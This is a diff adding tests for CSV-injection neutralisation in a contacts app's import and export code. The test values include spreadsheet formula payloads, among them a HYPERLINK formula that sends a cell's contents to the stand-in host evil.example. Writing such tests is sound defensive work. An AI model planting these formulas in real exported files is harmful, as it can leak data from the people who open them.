@@ -2,6 +2,7 @@
 
 import csv
 import io
+import itertools
 import random
 from datetime import UTC, datetime
 
@@ -14,7 +15,9 @@ from contacts.leads.csv_format import (
     InvalidCsv,
     Record,
     RecordSplitter,
+    export_cell,
     export_row,
+    import_cell,
     parse_row,
     to_csv,
 )
@@ -308,3 +311,86 @@ def test_an_exported_contact_reads_back_as_the_same_details():
         status=ContactStatus.LEAD,
         custom_fields=contact.custom_fields,
     )
+
+
+# --- formula cells (CSV injection) ------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("=1+1", "'=1+1"),
+        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
+        ("-5", "'-5"),
+        ("@", "'@"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("'=x", "''=x"),  # a quote before a formula: one more quote, stripped back
+        ("''-1", "'''-1"),
+        ("'", "'"),  # quotes alone start no formula: untouched
+        ("''", "''"),
+        ("'abc", "'abc"),
+        ("a=b", "a=b"),
+        ("5-3", "5-3"),
+        ("", ""),
+        ("plain", "plain"),
+        (" =x", " =x"),  # a space first: not one of OWASP's formula starts
+    ],
+)
+def test_a_formula_cell_gets_one_quote_and_reads_back_as_it_was(value, cell):
+    assert export_cell(value) == cell
+    assert import_cell(cell) == value
+
+
+@pytest.mark.parametrize("cell", ["'", "''", "'abc", "a'=b", "x", "", "'' =x", "=raw", "+raw"])
+def test_the_import_strips_a_quote_only_before_a_formula_start(cell):
+    # what the export cannot have quoted is read as given (a hand-made "=raw" too)
+    assert import_cell(cell) == cell
+
+
+def test_no_exported_cell_starts_a_formula_and_every_value_reads_back():
+    rng = random.Random(13)
+    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "1", '"', ","]
+    for _ in range(5000):
+        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
+        cell = export_cell(value)
+        assert not cell.startswith(FORMULA_STARTS), (value, cell)
+        assert import_cell(cell) == value, value
+    # two values never share a cell: the scheme is one-to-one
+    values = {"".join(p) for n in range(4) for p in itertools.product(alphabet[:8], repeat=n)}
+    assert len({export_cell(v) for v in values}) == len(values)
+
+
+def test_an_exported_contact_with_formula_values_is_neutralised_and_reads_back():
+    contact = Contact.create(
+        venue_id="v",
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        email="-ada@example.com",
+        phone="+33 6 12 34 56 78",
+        lead_source=LeadSource.WEBSITE,
+        custom_fields={"message": "@SUM(1+1)"},  # JSON: its cell starts with "{"
+        now=datetime(2026, 6, 1, 12, 30, tzinfo=UTC),
+    )
+    data = to_csv([EXPORT_COLUMNS, export_row(contact)])
+    header_record, record = split(data)
+    name, email, phone = record.fields[1:4]
+    assert name == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (email, phone) == ("'-ada@example.com", "'+33612345678")
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in record.fields)
+    row = Header.of(header_record).row(record)
+    assert (row.name, row.email, row.phone, row.custom_fields) == (
+        contact.name,
+        contact.email,
+        "+33612345678",
+        {"message": "@SUM(1+1)"},
+    )
+
+
+def test_a_hand_made_file_with_a_quoted_phone_imports_the_phone():
+    data = b"name,phone,email\r\nAda,'+33 6 12 34 56 78,ada@example.com\r\n"
+    header_record, record = split(data)
+    assert Header.of(header_record).row(record).phone == "+33612345678"
